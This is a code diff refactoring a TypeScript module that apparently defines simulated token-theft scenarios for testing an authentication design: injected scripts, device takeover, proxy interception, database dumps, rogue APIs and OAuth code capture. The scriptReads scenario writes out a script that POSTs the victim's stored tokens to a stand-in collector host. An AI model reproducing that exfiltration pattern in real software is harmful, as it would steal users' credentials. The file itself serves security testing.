@@ -2,7 +2,7 @@ import { BLINK } from '../../scenarios/types.ts';
 import { API, ELSEWHERE } from '../run/device.ts';
 import { THEFT } from '../run/schedule.ts';
 import { secret } from '../server/issue.ts';
-import { learned } from './overheard.ts';
+import { learns } from './overheard.ts';
 import type { Attack } from './types.ts';
 
 const COLLECTOR = 'https://collector.example';
@@ -13,15 +13,14 @@ export const scriptReads: Attack = {
   theft: {
     at: THEFT,
     happens: async (day) => {
-      const { owner, world, thief } = day;
+      const { owner, world } = day;
       world.note({ kind: 'script', actor: 'client', code: 'injected' });
       const body = JSON.stringify(Object.fromEntries(owner.storage));
       const headers = [['Content-Type', 'application/json']] as const;
       await owner.send('exchange', { method: 'POST', path: '/', headers, body }, COLLECTOR);
       const [, sent = '{}'] = world.collected.split('\r\n\r\n');
       const taken = JSON.parse(sent) as Readonly<Record<string, string>>;
-      for (const [name, value] of Object.entries(taken)) thief.keep(name, value);
-      learned(day, Object.values(taken), 'script');
+      learns(day, taken, 'script');
     },
   },
   begins: THEFT + 1,
@@ -47,8 +46,8 @@ export const device: Attack = {
     happens: (day) => {
       day.thief = day.owner;
       day.thief.user = null;
-      day.inside = true;
-      learned(day, [...day.thief.storage.values()], 'device');
+      day.world.tell('impostor', { type: 'LOOKED', found: true, reason: 'device' });
+      day.thief.isTaken('device');
       day.owner = day.device('client');
       day.owner.user = BLINK;
     },
@@ -63,7 +62,7 @@ export const refreshToken: Attack = {
   theft: {
     at: 0,
     happens: async (day) => {
-      const { owner, world, thief, client } = day;
+      const { owner, world, client } = day;
       owner.over = 'proxy';
       world.keepsAnswers = true;
       day.logins++;
@@ -71,8 +70,7 @@ export const refreshToken: Attack = {
       owner.over = 'https';
       world.keepsAnswers = false;
       const found = /"refresh_token":"([^"]+)"/.exec(world.overheard)?.[1];
-      if (found !== undefined) thief.keep('refresh_token', found);
-      learned(day, found === undefined ? [] : [found], 'logged');
+      learns(day, found === undefined ? {} : { refresh_token: found }, 'logged');
     },
   },
   begins: THEFT + 1,
@@ -83,7 +81,7 @@ export const dump: Attack = {
   theft: {
     at: THEFT,
     happens: (day) => {
-      const { world, thief, client } = day;
+      const { world, client } = day;
       const text = JSON.stringify(
         Object.fromEntries(
           (['tokens', 'refreshTokens', 'secrets'] as const).map((name) => [
@@ -99,9 +97,7 @@ export const dump: Attack = {
         key: 'dump',
         row: { text },
       });
-      const found = client.dumped(world.server.kept);
-      for (const [name, value] of Object.entries(found)) thief.keep(name, value);
-      learned(day, Object.values(found), 'dump');
+      learns(day, client.dumped(world.server.kept), 'dump');
     },
   },
   begins: THEFT + 1,
@@ -112,12 +108,10 @@ export const rogueApi: Attack = {
   theft: {
     at: THEFT,
     happens: async (day) => {
-      const { owner, world, thief, client } = day;
+      const { owner, world, client } = day;
       const asked = await client.request(owner, `${ELSEWHERE}/api/aeroplanes`);
       await owner.send('exchange', asked, ELSEWHERE);
-      const found = client.found(world.collected);
-      for (const [name, value] of Object.entries(found)) thief.keep(name, value);
-      learned(day, Object.values(found), 'rogue');
+      learns(day, client.found(world.collected), 'rogue');
     },
   },
   begins: THEFT + 1,
@@ -130,7 +124,7 @@ export const code: Attack = {
   theft: {
     at: 0,
     happens: async (day) => {
-      const { owner, world, thief, client } = day;
+      const { owner, world, client } = day;
       world.listens = true;
       day.logins++;
       await client.logIn(owner);
@@ -139,8 +133,7 @@ export const code: Attack = {
       const found = Object.fromEntries(
         [...back].filter(([name]) => name === 'code' || name.startsWith('oauth_')),
       );
-      for (const [name, value] of Object.entries(found)) thief.keep(name, value);
-      learned(day, Object.values(found), 'intercepted');
+      learns(day, found, 'intercepted');
     },
   },
   begins: 0,
@@ -151,11 +144,12 @@ export const guessing: Attack = {
   theft: {
     at: THEFT,
     happens: (day) => {
-      learned(day, [], 'nothing');
+      learns(day, {}, 'nothing');
     },
   },
   begins: THEFT + 1,
   before: ({ thief, client }) => {
-    for (const [name, value] of Object.entries(client.guessed(secret()))) thief.keep(name, value);
+    for (const [name, value] of Object.entries(client.guessed(secret())))
+      thief.keep(name, value, null);
   },
 };
